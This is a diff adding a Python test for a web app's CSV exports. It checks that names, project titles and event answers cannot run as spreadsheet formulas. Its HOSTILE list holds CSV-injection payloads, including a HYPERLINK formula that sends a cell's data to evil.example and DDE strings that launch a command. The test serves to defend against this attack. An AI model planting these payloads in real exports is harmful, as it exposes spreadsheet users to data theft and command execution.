@@ -1,0 +1,81 @@
+"""Every CSV download, fed hostile names, titles and answers, gives cells a spreadsheet
+shows as text and never runs as a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from matchmaker import csv_writer
+from matchmaker.csv_writer import FORMULA_STARTS
+from matchmaker.extensions import db
+from tests.factories import make_organisation, make_project, publish
+from tests.web import test_events as events
+from tests.web.test_events import QUESTIONS, make_event, person, sign_up
+
+# The events tests' world: organisations, people and an organiser.
+app = events.app
+world = events.world
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    " =1+1",
+]
+
+
+def cells(response) -> list[list[str]]:
+    assert response.status_code == 200
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+
+
+def runnable(table: list[list[str]]) -> list[str]:
+    """The cells a spreadsheet would run: they start (after spaces) with a formula sign."""
+    return [c for row in table for c in row if c.lstrip(" ").startswith(FORMULA_STARTS)]
+
+
+def export_routes(app) -> set[str]:
+    return {rule.rule for rule in app.url_map.iter_rules() if "csv" in rule.rule}
+
+
+def test_every_csv_export_neutralises_hostile_cells(app, world):
+    moderator = world["moderator"]
+    hostile_org = make_organisation(world["olga"], name=HOSTILE[0], kind="startup")
+    publish("organisation", hostile_org, moderator)
+    for title in HOSTILE:
+        texts = {"en": {"title": title, "summary": title, "description": "A pilot."}}
+        publish("project", make_project(hostile_org, texts=texts), moderator)
+    event = make_event(world, capacity=10, questions=QUESTIONS)
+    for name, hostile in zip(("alice", "bob", "carol", "dave"), HOSTILE, strict=False):
+        world[name].name = hostile
+        db.session.commit()
+        sign_up(person(app, world, name), event, share_email="y", answer_0=hostile, answer_1="Fish")
+
+    organiser = person(app, world, "olga")
+    downloads = {
+        "/<lang:lang>/<any(projects, organisations):kind>/export.<any(csv, json):fmt>": [
+            organiser.get("/en/organisations/export.csv"),
+            organiser.get("/en/projects/export.csv"),
+        ],
+        "/<lang:lang>/my/events/<int:event_id>/participants.csv": [
+            organiser.get(f"/en/my/events/{event.id}/participants.csv"),
+        ],
+    }
+    assert set(downloads) == export_routes(app), "a CSV route this test does not cover"
+    for route, responses in downloads.items():
+        for response in responses:
+            table = cells(response)
+            assert "'" + HOSTILE[0] in {c for row in table for c in row}, route
+            assert runnable(table) == [], route
+
+
+def test_numbers_stay_numbers_and_text_keeps_its_words():
+    assert csv_writer.cell(-5) == -5
+    assert csv_writer.cell("-5") == "'-5"
+    assert csv_writer.cell(["a", "=b"]) == "a; =b"
+    assert csv_writer.cell("Zdrowie 2.0") == "Zdrowie 2.0"
+    assert csv_writer.cell(None) == ""
